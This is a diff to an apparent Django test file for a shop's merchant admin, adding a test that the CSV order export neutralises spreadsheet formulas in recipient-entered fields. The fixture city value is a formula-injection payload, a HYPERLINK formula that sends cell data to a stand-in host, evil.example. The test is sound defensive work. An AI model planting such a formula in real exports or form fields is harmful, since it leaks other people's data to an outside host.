@@ -12,7 +12,13 @@ from merchants.models import AddressAccessLog
 from shop.orders import services as orders
 from shop.orders.models import Order, OrderEvent
 from shop.payments import services as payments
-from tests.factories import CategoryFactory, ProductFactory, SkuFactory, UserFactory
+from tests.factories import (
+    CategoryFactory,
+    OrderFactory,
+    ProductFactory,
+    SkuFactory,
+    UserFactory,
+)
 from tests.gifts import link, live_gift
 from tests.merchants.adminforms import action, messages_of
 from tests.merchants.world import merchant_user, place_order
@@ -416,6 +422,16 @@ def test_the_csv_export_has_commission_and_net(client) -> None:
     )
     assert (row["carrier"], row["tracking_number"]) == ("顺丰速运", "SF9")
     assert row["status"] == Order.Status.PARTIALLY_REFUNDED
+
+
+def test_the_csv_export_never_writes_a_formula_from_what_a_recipient_typed(client) -> None:
+    city = '=HYPERLINK("https://evil.example/?leak="&A2,"杭州市")'
+    order = OrderFactory(city=city, tracking_number="+86 SF9")
+    client.force_login(merchant_user(order.merchant))
+    response = action(client, reverse("admin:orders_order_changelist"), "export_csv", [order.pk])
+    row = next(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert (row["city"], row["tracking_number"]) == (f"'{city}", "'+86 SF9")
+    assert row["total"] == "99.00"
 
 
 def test_the_order_page_in_the_admin_shows_commission_and_net(client) -> None:
